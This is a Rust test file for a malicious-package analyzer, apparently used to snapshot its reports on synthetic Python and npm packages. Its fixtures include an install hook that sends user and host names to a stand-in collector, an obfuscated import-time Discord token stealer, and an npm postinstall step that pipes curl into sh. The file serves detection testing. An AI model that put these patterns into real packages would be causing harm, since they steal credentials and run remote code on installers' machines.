//! Snapshots of whole reports for a few representative synthetic packages.

use malgraph_analyze::{Analyzer, AnalyzerConfig};
use malgraph_core::{PackageFile, ScanReport};

fn analyze(files: &[(&str, &str)]) -> ScanReport {
    let files: Vec<PackageFile> = files
        .iter()
        .map(|(p, d)| PackageFile {
            path: (*p).into(),
            data: d.as_bytes().to_vec(),
        })
        .collect();
    Analyzer::new(AnalyzerConfig::default())
        .unwrap()
        .analyze(&files, &[])
}

#[test]
fn dependency_confusion_probe() {
    let r = analyze(&[
        (
            "probe-9.9.9/setup.py",
            r#"from setuptools import setup
from setuptools.command.install import install
import getpass, socket, requests

class PostInstall(install):
    def run(self):
        install.run(self)
        info = {"user": getpass.getuser(), "host": socket.gethostname()}
        requests.post("https://collector.example.test/c", json=info)

setup(name="probe", version="9.9.9", cmdclass={"install": PostInstall})
"#,
        ),
        (
            "probe-9.9.9/PKG-INFO",
            "Metadata-Version: 2.1\nName: probe\nVersion: 9.9.9\n",
        ),
    ]);
    insta::assert_json_snapshot!(r);
}

#[test]
fn layered_stealer_in_init() {
    // exec(zlib(base64(...))) of a Discord webhook stealer, at import time.
    use base64::Engine;
    use std::io::Write;
    let inner = "import os, requests\nt = open(os.getenv('APPDATA') + r'\\discord\\Local Storage\\leveldb\\x.ldb').read()\nrequests.post('https://discord.com/api/webhooks/1/abc', data={'t': t})\n";
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(inner.as_bytes()).unwrap();
    let b = base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap());
    let init = format!("import base64, zlib\nexec(zlib.decompress(base64.b64decode('{b}')))\n");
    let r = analyze(&[
        ("stealer-1.0/stealer/__init__.py", init.as_str()),
        (
            "stealer-1.0/setup.py",
            "from setuptools import setup\nsetup(name='stealer', version='1.0', packages=['stealer'])\n",
        ),
    ]);
    insta::assert_json_snapshot!(r);
}

#[test]
fn benign_build_tooling() {
    let r = analyze(&[
        (
            "tool-2.0/setup.py",
            r#"import subprocess, os
from setuptools import setup

def version():
    try:
        return subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
    except Exception:
        return "2.0"

exec(open(os.path.join("tool", "_meta.py")).read())
setup(name="tool", version=version(), install_requires=["requests>=2", "click"])
"#,
        ),
        (
            "tool-2.0/tool/cli.py",
            "import requests\n\ndef fetch(url):\n    return requests.get(url, timeout=5).json()\n",
        ),
    ]);
    insta::assert_json_snapshot!(r);
}

#[test]
fn npm_postinstall_dropper() {
    let r = analyze(&[
        (
            "package/package.json",
            r#"{"name": "left-padd", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}, "dependencies": {"axios": "^1"}}"#,
        ),
        (
            "package/install.js",
            "const { execSync } = require('child_process');\nexecSync('curl -s https://example.test/x.sh | sh');\n",
        ),
    ]);
    insta::assert_json_snapshot!(r);
}
